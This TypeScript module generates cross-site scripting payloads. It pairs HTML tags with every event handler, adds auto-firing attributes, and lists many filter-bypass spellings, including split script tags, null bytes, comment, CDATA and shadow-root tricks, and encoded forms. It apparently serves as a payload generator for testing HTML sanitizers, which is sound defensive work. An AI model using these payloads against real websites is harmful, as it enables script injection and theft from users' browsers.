/** Every tag with every handler, and the ways in which a tag can be written so that a filter of text misses it. */

const TAGS =
  'a abbr applet area article audio b base bdo bgsound blink body br button canvas center col custom-element details dialog div embed fieldset fencedframe font footer form frame frameset h1 head header hr html i iframe image img input ins isindex kbd keygen label layer li link listing main map mark marquee menu meta meter nav nobr object ol optgroup option output p param picture portal pre progress q ruby s samp search section select selectlist slot source span strike summary svg table tbody td template textarea tfoot th thead time title tr track tt ul var video wbr xmp xss'.split(
    ' '
  )

const HANDLERS =
  'abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforeinstallprompt beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload beforexrselect begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pagereveal pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start submit suspend timeupdate toggle touchstart transitioncancel transitionend transitionrun transitionstart unload volumechange waiting webkitanimationend wheel zoom'.split(
    ' '
  )

/** What makes a handler be called without anybody's doing. */
const EAGER = 'src=x: href=x: data=x: autofocus open autoplay controls tabindex=0 contenteditable'

/** More attributes than this nobody writes in one tag, and a description ends before it. */
const OF_ONE_TAG = 80

export function handlers(js: string): string[] {
  const parts = [HANDLERS.slice(0, OF_ONE_TAG), HANDLERS.slice(OF_ONE_TAG)]
  const all = parts.map((names) => names.map((name) => `on${name}="${js}"`).join(' '))
  return [
    ...TAGS.flatMap((tag) => all.map((some) => `<${tag} ${EAGER} ${some}>x</${tag}>`)),
    ...HANDLERS.map((name) => `<img src=x: on${name}=${js}>`),
    ...HANDLERS.map((name) => `<svg><g/on${name}=${js}></svg><math><mi on${name}='${js}'></math>`),
    ...writings(js)
  ]
}

const writings = (js: string): string[] => [
  `<script>${js}</script>`,
  `<SCRIPT/x>${js}</SCRIPT >`,
  `<script\t>${js}</script\n>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<<script>script>${js}<</script>/script>`,
  `<scr\0ipt>${js}</scr\0ipt>`,
  `<script>//>\n${js}</script>`,
  `<script type=module>${js}</script><script type="text/javascript;x">${js}</script>`,
  `<script nonce=x>${js}</script><script defer async>${js}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["/x"]}]}</script><script type=importmap>{}</script>`,
  `<img/src=x:/onerror=${js}>`,
  `<img\x0csrc=x:\x0conerror=${js}>`,
  `<img\x0bsrc=x: onerror=${js}>`,
  `<img src=x: onerror\x20=\x20"${js}">`,
  `<img src=x: onerror=\`${js}\`>`,
  `<img src=x: ONERROR=${js} OnLoad=${js}>`,
  `<img """><script>${js}</script>">`,
  `<img src="x:" a="\\" onerror="${js}">`,
  `<img src=x: onerror=&#x70;arent.ran=1>`,
  `<img src=x: on\0error=${js}><img src=x: \0onerror=${js}>`,
  `<a/onmouseover/=/${js}/ href=#><svg/onload=${js}>`,
  `<input autofocus onfocus=${js}><select autofocus onfocus=${js}><textarea autofocus onfocus=${js}></textarea>`,
  `</br/onload=${js}><br/onload=${js}></p onload=${js}>`,
  `<x onclick=${js} id=x tabindex=1 onfocus=${js} style=display:block>x</x>`,
  `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${js} onanimationend=${js}>x</b>`,
  `<b style="content-visibility:auto" oncontentvisibilityautostatechange=${js}>x</b>`,
  `<button popovertarget=p>x</button><b popover id=p onbeforetoggle=${js}>x</b>`,
  `<audio src onloadstart=${js}></audio><video><source onerror=${js}></video><video poster onloadstart=${js}>`,
  `<marquee onstart=${js} loop=1>x</marquee><details open ontoggle=${js}>x</details>`,
  `<div><template shadowrootmode=open><img src=x: onerror=${js}></template></div>`,
  `<div><template shadowroot=open><script>${js}</script></template></div>`,
  `<p is=x-y onclick=${js}><x-y onconnected=${js}></x-y><slot onslotchange=${js}>x</slot>`,
  `<!--><img src=x: onerror=${js}>--><!--!><img src=x: onerror=${js}>-->`,
  `<!--[if gte IE 4]><script>${js}</script><![endif]--><comment><img src=x: onerror=${js}></comment>`,
  `<![CDATA[><img src=x: onerror=${js}>]]><?php ?><img src=x: onerror=${js}>?>`,
  `<?xml-stylesheet href="javascript:${js}"?><!ENTITY x "<script>${js}</script>"><!doctype x [<!ENTITY y "z">]>&y;`,
  `&lt;script&gt;${js}&lt;/script&gt;&#60;img src=x: onerror=${js}&#62;`,
  `\\u003cscript\\u003e${js}\\u003c/script\\u003e+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  `<iframe onload=${js}></iframe><object onerror=${js} data=x:></object><embed onload=${js} src=data:,x>`
]
